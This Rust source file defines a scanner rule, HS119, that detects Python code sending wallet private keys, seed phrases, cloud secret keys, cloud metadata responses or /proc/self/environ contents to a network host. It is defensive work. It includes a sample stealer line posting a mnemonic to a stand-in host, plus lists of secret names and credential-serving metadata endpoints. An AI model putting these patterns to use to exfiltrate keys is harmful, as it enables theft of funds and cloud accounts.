//! # HS119 key-material-exfiltration
//!
//! ## What it does
//!
//! Flags a network send whose payload carries key material: a value named as
//! a wallet's private key, seed or mnemonic, or a cloud secret key
//! (`private_key`, `mnemonic`, `seed_phrase`, `secret_access_key`,
//! `access_key_secret`, ...), as a variable, an attribute or a dictionary
//! key, in the body, the query parameters or an f-string URL of
//! `requests.post/get`, `urlopen(Request(..., data=...))`, `httpx`,
//! `aiohttp` or a socket send. Also the response of the cloud metadata
//! service (`169.254.169.254`, `metadata.google.internal`) or the process
//! environment read from `/proc/self/environ`, sent to another host.
//!
//! ## Why it matters
//!
//! Trojanised wallet helpers and SDK copies do not need an exploit: the user
//! hands them the key. "Balance checkers" post the mnemonic to a raw IP,
//! fake TRON and Solana helpers post the private key to a mock API, a
//! poisoned cloud SDK forwards the access key and secret it was constructed
//! with, and CI-targeting packages forward the instance's service-account
//! token. Wallet libraries sign locally and cloud SDKs sign requests; none
//! ships the raw secret to a server.
//!
//! ## Example
//!
//! ```python
//! def balance(mnemonic):
//!     requests.post("https://example.invalid/check", json={"mnemonic": mnemonic})
//! ```
//!
//! ## False positives
//!
//! OAuth token requests send a `client_secret` and logins send a
//! `password`; neither is key material here. Headers (where API keys
//! legitimately travel) are not looked at. A key-management server's own
//! client that uploads keys on purpose would be flagged.
//!
//! ## References
//!
//! - THREATS.md H18, H21; MITRE ATT&CK T1552.001 (Credentials in Files),
//!   T1552.005 (Cloud Instance Metadata API), T1567 (Exfiltration Over Web Service)
//! - Checkmarx and Socket write-ups of TRON/Solana wallet-key stealers on PyPI (2024-2025)

use crate::python::Syntax;
use crate::python::tree::Node;
use crate::python::{Module, fold, names};
use crate::report::Severity;
use crate::rules::{Checker, Meta, Rule};

pub struct KeyMaterialExfiltration;

static META: Meta = crate::rule_meta!("HS119", "key-material-exfiltration", High, Medium);

/// Names of key material, compared after lower-casing and dropping `_`/`-`.
const KEY_NAMES: &[&str] = &[
    "privatekey",
    "privkey",
    "mnemonic",
    "mnemonics",
    "mnemonicphrase",
    "seedphrase",
    "seedwords",
    "recoveryphrase",
    "secretphrase",
    "walletkey",
    "keystore",
    "secretaccesskey",
    "awssecretaccesskey",
    "accesskeysecret",
];

/// Hosts that hand out the instance's credentials.
const METADATA_HOSTS: &[&str] = &[
    "169.254.169.254",
    "metadata.google.internal",
    "100.100.100.200",
];

/// Keyword arguments that carry what a call sends.
const PAYLOAD_KWARGS: &[&str] = &[
    "data", "json", "params", "files", "body", "content", "fields",
];

impl Rule for KeyMaterialExfiltration {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        let metadata_read = m.calls.iter().find(|c| {
            c.qname.as_deref().is_some_and(names::is_network)
                && c.arg(0).or_else(|| c.kwarg("url")).is_some_and(|u| {
                    METADATA_HOSTS
                        .iter()
                        .any(|h| fold::template(m, u).contains(h))
                })
        });
        let environ_file = m.strings.iter().any(|s| {
            let t = m.text(*s);
            t.contains("/proc/self/environ") || t.contains("/proc/1/environ")
        });
        for call in &m.calls {
            let Some(q) = call.qname.as_deref() else {
                continue;
            };
            if !names::is_network(q) {
                continue;
            }
            let payload = payload_of(m, call);
            let mut found: Option<String> = None;
            for part in &payload {
                if let Some(name) = key_name_in(m, *part, 0) {
                    found = Some(format!("`{name}`"));
                    break;
                }
            }
            if found.is_none() {
                // Instance credentials fetched in this file and sent on: the
                // send is not the metadata request itself.
                if let Some(read) = metadata_read
                    && !is_metadata_call(m, call)
                    && payload.iter().any(|p| holds_call(m, *p, read.node))
                {
                    found = Some("the cloud metadata service's answer".to_string());
                } else if environ_file && !payload.is_empty() && sends_file_read(m, &payload) {
                    found = Some("the process environment (/proc/self/environ)".to_string());
                }
            }
            let Some(what) = found else {
                continue;
            };
            checker.report(
                &META,
                call.node,
                Severity::High,
                m.context(call.scope),
                format!(
                    "key material ({what}) is sent out through {}()",
                    q.trim_end_matches("()")
                ),
            );
        }
    }
}

fn is_metadata_call(m: &Module<'_>, call: &crate::python::Call<'_>) -> bool {
    call.arg(0).or_else(|| call.kwarg("url")).is_some_and(|u| {
        METADATA_HOSTS
            .iter()
            .any(|h| fold::template(m, u).contains(h))
    })
}

/// What a network call sends: its payload keywords, positional arguments
/// after the URL, and a URL with fields (`f"https://h/?k={key}"`).
fn payload_of<'t>(m: &Module<'t>, call: &crate::python::Call<'t>) -> Vec<Node<'t>> {
    let mut out: Vec<Node<'t>> = call
        .kwargs
        .iter()
        .filter(|(k, _)| PAYLOAD_KWARGS.contains(k))
        .map(|(_, v)| *v)
        .collect();
    out.extend(call.args.iter().skip(1).copied());
    if let Some(url) = call.arg(0).or_else(|| call.kwarg("url")) {
        // A Request object built in place carries its own data=.
        if url.kind_name() == "call"
            && let Some(inner) = m.calls.iter().find(|c| c.node.id() == url.id())
        {
            out.extend(payload_of(m, inner));
        } else if url.kind_name() != "string" || m.text(url).contains('{') {
            out.push(url);
        }
    }
    out
}

fn normalized(name: &str) -> String {
    name.chars()
        .filter(|c| *c != '_' && *c != '-')
        .flat_map(char::to_lowercase)
        .collect()
}

fn is_key_name(name: &str) -> bool {
    let n = normalized(name);
    KEY_NAMES
        .iter()
        .any(|k| n == *k || (n.len() <= k.len() + 8 && n.ends_with(k)))
}

/// A key-material name inside `node`: an identifier, an attribute, a
/// dictionary key or a set member, followed through names to the values
/// they hold (three steps at most).
fn key_name_in(m: &Module<'_>, node: Node<'_>, depth: usize) -> Option<String> {
    find_in(m, node, depth, &mut |n| match n.kind_name() {
        "identifier" => {
            let text = m.text(n);
            is_key_name(text).then(|| text.to_string())
        }
        "attribute" => n
            .field("attribute")
            .filter(|a| is_key_name(m.text(*a)))
            .map(|_| m.text(n).to_string()),
        "keyword_argument" => n
            .field("name")
            .filter(|k| is_key_name(m.text(*k)))
            .map(|k| m.text(k).to_string()),
        "string" | "concatenated_string" => {
            // a dictionary key, subscript or set member naming the secret,
            // whole (`"mnem" "onic"` is one key) and seen through brackets
            let mut parent = n.parent();
            while let Some(p) = parent.filter(|p| p.kind_name() == "parenthesized_expression") {
                parent = p.parent();
            }
            let parent = parent.map(|p| p.kind_name());
            if matches!(parent, Some("pair" | "subscript" | "set")) {
                fold::fold_str(m, n).filter(|v| v.len() < 40 && is_key_name(v))
            } else {
                None
            }
        }
        _ => None,
    })
}

/// Whether `node` holds the value of the call `target` (directly or
/// through names).
fn holds_call(m: &Module<'_>, node: Node<'_>, target: Node<'_>) -> bool {
    find_in(m, node, 0, &mut |n| {
        (n.id() == target.id()).then_some(String::new())
    })
    .is_some()
}

/// Walks `node` and the values of the names in it (three steps at most),
/// returning the first answer of `hit`. Signing, hashing and deriving stop
/// the walk: a signature made with a key is not the key.
fn find_in<'t>(
    m: &Module<'t>,
    node: Node<'t>,
    depth: usize,
    hit: &mut dyn FnMut(Node<'t>) -> Option<String>,
) -> Option<String> {
    if depth > 3 {
        return None;
    }
    let mut stack = vec![node];
    let mut visited = 0;
    while let Some(n) = stack.pop() {
        visited += 1;
        if visited > 400 {
            return None;
        }
        if let Some(found) = hit(n) {
            return Some(found);
        }
        match n.kind_name() {
            "identifier" => {
                if let Some(v) = m.value_at(n)
                    && let Some(found) = find_in(m, v, depth + 1, hit)
                {
                    return Some(found);
                }
            }
            "call" if derives_new_data(m, n) => {}
            "string" => {
                for child in n.named_children() {
                    if child.kind_name() == "interpolation" {
                        stack.push(child);
                    }
                }
            }
            _ => {
                for child in n.named_children() {
                    stack.push(child);
                }
            }
        }
    }
    None
}

/// Calls whose result is new data made from their input: a digest, a MAC,
/// a signature, an address or public key derived from a private one.
fn derives_new_data(m: &Module<'_>, call: Node<'_>) -> bool {
    let Some(func) = call.field("function") else {
        return false;
    };
    let spelled = m.text(func);
    let last = spelled
        .rsplit('.')
        .next()
        .unwrap_or(spelled)
        .to_ascii_lowercase();
    spelled.starts_with("hashlib.")
        || spelled.starts_with("hmac.")
        || [
            "sign", "digest", "hash", "encrypt", "derive", "public", "address", "verify",
        ]
        .iter()
        .any(|w| last.contains(w))
}

/// Whether the payload derives from a file read (`open(...).read()`).
fn sends_file_read(m: &Module<'_>, payload: &[Node<'_>]) -> bool {
    payload.iter().any(|p| {
        let scope = m.scope_at(*p);
        let t = crate::python::taint::taint(m, *p, scope);
        t.has(crate::python::Taint::FileRead)
    })
}
